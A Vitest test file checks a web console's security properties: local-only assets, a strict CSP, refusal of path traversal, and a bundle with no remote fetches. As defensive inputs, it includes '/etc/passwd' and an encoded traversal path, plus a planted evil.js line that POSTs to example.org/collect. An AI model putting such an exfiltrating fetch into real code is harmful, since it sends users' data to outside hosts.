import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildConsole, checkNoRemoteResources, CONSOLE_DIST_DIR } from './build.ts';
import { CONSOLE_CSP, createConsoleHandler } from './serve.ts';

describe('console page and assets', () => {
  beforeAll(async () => {
    await buildConsole();
  }, 120_000);

  it('html() references only local assets and runs no inline script', () => {
    const html = createConsoleHandler().html();
    const refs = [...html.matchAll(/\b(?:src|href)\s*=\s*"([^"]*)"/gi)].map((m) => m[1] ?? '');
    expect(refs.length).toBeGreaterThanOrEqual(2);
    for (const ref of refs) {
      expect(ref).not.toMatch(/^(?:[a-z][a-z0-9+.-]*:)?\/\//i);
      expect(ref.startsWith('/console/assets/') || ref.startsWith('data:')).toBe(true);
    }
    expect(html).toMatch(/src="\/console\/assets\/console\.js\?v=[0-9a-f]{12}"/);
    expect(html).toMatch(/href="\/console\/assets\/console\.css\?v=[0-9a-f]{12}"/);
    expect(html).not.toMatch(/https?:\/\//);
    for (const m of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)) {
      expect(m[1]).toMatch(/\bsrc="/);
      expect(m[2]).toBe('');
    }
    expect(html).not.toMatch(/<style\b|\sstyle="/i);
    expect(html).toContain('<div id="root">');
  });

  it('has a CSP that allows only its own scripts, styles and API', () => {
    const directives = Object.fromEntries(CONSOLE_CSP.split(/;\s*/).map((d) => {
      const [name, ...values] = d.trim().split(/\s+/);
      return [name, values];
    }));
    expect(directives['script-src']).toEqual(["'self'"]);
    expect(directives['connect-src']).toEqual(["'self'"]);
    expect(directives['style-src']).toEqual(["'self'"]);
    expect(directives['default-src']).toEqual(["'self'"]);
    expect(directives['object-src']).toEqual(["'none'"]);
    expect(directives['frame-ancestors']).toEqual(["'none'"]);
    expect(CONSOLE_CSP).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
  });

  it('serves the JS and CSS with the right content types', () => {
    const h = createConsoleHandler();
    const js = h.serveAsset('/console/assets/console.js');
    expect(js?.status).toBe(200);
    expect(js?.contentType).toBe('text/javascript; charset=utf-8');
    expect(js!.body.length).toBeGreaterThan(50_000);
    const css = h.serveAsset('/console/assets/console.css?v=whatever');
    expect(css?.contentType).toBe('text/css; charset=utf-8');
    expect(css!.body.toString('utf8')).toContain('.sidenav');
  });

  // The full traversal matrix and the content cache are ../browserBundle/createBundleAssets.test.ts;
  // these show the handler uses them with the console's own files and prefix.
  it('refuses unknown files, path traversal and files outside its prefix', () => {
    const h = createConsoleHandler();
    for (const p of ['/console/assets/nope.js', '/console/assets/%2E%2E%2F%2E%2E%2Fpackage.json', '/console/app.tsx', '/console.js', '/etc/passwd', '..']) {
      expect(h.serveAsset(p), p).toBeNull();
    }
  });

  it('honours distDir and assetsPath, versioning the page\'s asset URLs by content', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'console-dist-'));
    try {
      await writeFile(join(dir, 'console.js'), 'console.log(1)');
      await writeFile(join(dir, 'console.css'), 'body{}');
      const h = createConsoleHandler({ distDir: dir, assetsPath: 'ui/static' });
      const before = /src="\/ui\/static\/console\.js\?v=([0-9a-f]{12})"/.exec(h.html())?.[1];
      expect(before).toBeDefined();
      expect(h.serveAsset('/ui/static/console.js')?.body.toString()).toBe('console.log(1)');
      await writeFile(join(dir, 'console.js'), 'console.log(22)');
      expect(/console\.js\?v=([0-9a-f]+)/.exec(h.html())?.[1]).not.toBe(before);
      // A missing build is a 404 at the router, not a crash.
      await rm(join(dir, 'console.css'));
      expect(h.serveAsset('/ui/static/console.css')).toBeNull();
      expect(h.html()).toContain('href="/ui/static/console.css"');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('the built bundle references no remote resource, nor makes a hard-coded remote fetch', async () => {
    await expect(checkNoRemoteResources(CONSOLE_DIST_DIR)).resolves.toBeUndefined();
    const dir = await mkdtemp(join(tmpdir(), 'console-remote-'));
    try {
      // The shared patterns (CDNs, fonts, remote @import …) are ../browserBundle/checkNoRemoteResources.test.ts;
      // this one is the console's own.
      await writeFile(join(dir, 'evil.js'), 'fetch("https://example.org/collect",{method:"POST"})');
      await expect(checkNoRemoteResources(dir)).rejects.toThrow(/^console bundle references remote resources/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
    const js = await readFile(join(CONSOLE_DIST_DIR, 'console.js'), 'utf8');
    expect(js).toContain('/admin/graphql');
  });
});
